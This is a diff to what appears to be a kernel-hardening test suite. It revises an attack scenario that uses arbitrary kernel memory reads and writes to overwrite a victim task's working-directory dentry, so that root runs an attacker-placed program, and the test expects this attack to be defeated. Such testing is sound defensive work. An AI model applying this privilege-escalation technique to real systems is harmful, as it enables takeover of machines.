@@ -7,23 +7,13 @@ ATTACK("cred_integrity", "cwd_other_place", "LOST",
        "Where a program stands is read from a sealed record, which its task's seal names.",
        "Root runs the attacker's program.");
 
-static bool control(void)
-{
-	return is_ordinary();
-}
-
 static bool fire(void)
 {
 	const uint64_t victim = victim_task(own_task());
 	const uint64_t cwd =
 		peek(victim + member("task.file_context")) + member("file_context.cwd");
-	long place;
 
-	make_own_program();
-	call2(__NR_mkdir, (long)"/tmp/place", 0755);
-	call2(__NR_rename, (long)MINE, (long)"/tmp/place/helper");
-	place = call3(__NR_open, (long)"/tmp/place", O_RDONLY | O_DIRECTORY, 0);
-	poke(cwd + member("path.dentry"), dentry_of(place));
+	poke(cwd + member("path.dentry"), make_own_place());
 	wait_for_root();
 	return false;
 }
